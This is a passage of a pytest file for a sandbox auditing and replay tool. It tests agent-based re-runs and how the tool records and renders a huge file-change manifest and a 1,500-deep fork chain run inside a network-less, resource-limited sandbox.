    assert Q.glob_to_like("/tmp/*_%?") == "/tmp/%\\_\\%_"
    with pytest.raises(ReplayError, match="not an absolute path"):
        Q.writes_sql("db", "etc")
    with pytest.raises(ReplayError, match="8 to 64 hex"):
        Q.denials_sql("db", "abc")


# ---------------------------------------------------------------- re-run through the node agent

@pytest.fixture(scope="module")
def node_agent(tmp_path_factory, clickhouse_url):
    """A `dsec agent` of this module's own (its socket, spool, no warm pool)."""
    import yaml
    base = tmp_path_factory.mktemp("replay-agent")
    sock = str(base / "agent.sock")
    cfg = base / "agent.yaml"
    cfg.write_text(yaml.safe_dump({"socket": sock, "log_level": "info", "warm_pool": []}))
    env = dict(os.environ, DSEC_CLICKHOUSE_URL=clickhouse_url, DSEC_SPOOL_DIR=str(base / "spool"))
    env.pop("DSEC_AGENT_SOCKET", None)
    log = open(base / "agent.log", "wb")
    p = subprocess.Popen([DSEC, "agent", "--config", str(cfg)], env=env, stdout=log, stderr=subprocess.STDOUT,
                         stdin=subprocess.DEVNULL)
    from agent.node.client import agent_available
    deadline = time.monotonic() + 90
    while not (os.path.exists(sock) and agent_available(sock, timeout=2.0)):
        assert p.poll() is None and time.monotonic() < deadline, (base / "agent.log").read_text()[-3000:]
        time.sleep(0.3)
    yield sock
    p.terminate()
    assert p.wait(timeout=60) == 0, (base / "agent.log").read_text()[-3000:]
    log.close()


def test_rerun_goes_through_the_running_agent(incident, node_agent):
    env = dict(incident["env"], DSEC_AGENT_SOCKET=node_agent, DSEC_AGENT="on")
    r = dsec("replay", incident["sid"], "--rerun", "--format", "json", env=env, timeout=240)
    assert r.returncode in (0, 1), r.stderr
    d = json.loads(r.stdout)
    assert d["how"] == "agent", d
    for s in d["steps"]:
        assert not s["exit_changed"], s
        for key in ("execs", "connects", "writes", "denials"):
            assert s[key]["added"] == [] and s[key]["removed"] == [], (s["step"], key, s[key])
    assert r.returncode == 0 and not d["changed"]


def _one_step_recorded(clickhouse_url, tmp_path, prefix: str, script: str, pids=64, **spec_kw):
    """One audited sandbox (its own recorder and spool) running `python3 -I -c script` as its
    step, its record flushed to ClickHouse and read back: (step result, close summary,
    trajectory)."""
    from agent.sandbox.launcher import Sandbox, SandboxSpec
    from agent.sensors.recorder import Recorder
    from agent.sensors.watch import SandboxWatch
    from exporters.spool import Spool
    from exporters.clickhouse import flush
    rec = Recorder(spool=Spool(str(tmp_path / "spool")), enforce=False)
    sid = f"{prefix}-" + os.urandom(4).hex()
    try:
        spec = SandboxSpec(argv=[], sandbox_id=sid, network="none", pids=pids, **spec_kw)
        sb = Sandbox(spec, **SandboxWatch(rec, spec).hooks()).start()
        try:
            r = sb.exec(["python3", "-I", "-c", script], timeout=120)
        finally:
            summary = sb.close()
    finally:
        rec.close()
    res = flush(rec.spool, url=clickhouse_url, timeout=60)
    assert res.ok, res.summary()
    with AuditStore(clickhouse_url) as store:
        t = reconstruct(sid, list(store.events(sid)))
    return r, summary, t


DEEP_WRITER = r'''
import os
d = b"/workspace"
for i in range(15):
    d += b"/" + bytes([0xff, 0xfe]) * 127 + bytes([0x30 + i])
os.makedirs(d)
for i in range(1000):
    with open(d + b"/" + b"\xfa" * 180 + str(i).encode(), "wb"):
        pass
'''


def test_huge_change_manifest_is_recorded_whole(clickhouse_url, tmp_path):
    """Issue 13 point 4: 1,000 non-UTF-8 ~4 KiB paths make the manifest ~28 MiB
    escaped; on main the sandbox_exit record was refused by the spool and the
    sandbox's end was lost. Now the manifest is in its own paged file_changes
    records and sandbox_exit arrives."""
    r, summary, t = _one_step_recorded(clickhouse_url, tmp_path, "manifest", DEEP_WRITER, memory=256 << 20)
    assert r.code == 0, r.error
    assert t.exit is not None                                         # the end is recorded
    assert len(summary["changes"]) >= 1000
    assert [c["path"] for c in t.changes] == [c["path"] for c in summary["changes"]]
    assert any(c["path"].endswith("\udcfa" * 180 + "999") for c in t.changes)
    assert len(t.change_pages) >= 2


FORK_CHAIN = r'''
import os
r, w = os.pipe()
if os.fork():                            # the step's process waits for the chain's end (EOF)
    os.close(w)
    os.read(r, 1)
    raise SystemExit(0)
for i in range(1500):                    # each process forks the next and exits: a chain, not a crowd
    if os.fork():
        os._exit(0)
'''


def test_a_fork_chain_deeper_than_the_recursion_limit_replays(clickhouse_url, tmp_path):
    """A workload whose processes form a 1,500-deep chain (each forks the next and exits; the
    pids limit never sees more than two): on main the text and HTML renderings of its
    process tree recursed once per level and `dsec replay` died with a RecursionError. Now
    both render every process, the indentation capped and the depth said."""
    from replay import render_html, render_text
    r, summary, t = _one_step_recorded(clickhouse_url, tmp_path, "chain", FORK_CHAIN)
    assert r.code == 0, r.error
    assert summary["audit"]["lost"] == 0
    text = render_text.render(t, step=1)
    chain = [ln for ln in text.splitlines() if "] (python3)" in ln]
    assert len(chain) >= 1500, len(chain)
    assert max(len(ln) for ln in chain) < 200                             # the indentation is capped
    assert "depth 1500" in text or "depth 1501" in text, text[-2000:]
    page = render_html.render(t)
    assert page.count("<li class='proc'") >= 1500 and page.count("<ul") < 200
    from replay.report import to_dict
    doc = json.loads(json.dumps(to_dict(t)))                          # the JSON report, nested <= 100 levels
    node, depth = doc["steps"][0]["processes"][0], 0
    while node["children"] and not node.get("flattened"):
        node, depth = node["children"][0], depth + 1
    assert node.get("flattened") and depth == 99 and len(node["children"]) >= 1400, (depth, len(node["children"]))
    pids = [node["pid"]] + [c["pid"] for c in node["children"]]
    assert all(c["ppid"] == pids[i] for i, c in enumerate(node["children"]))   # each one's parent said
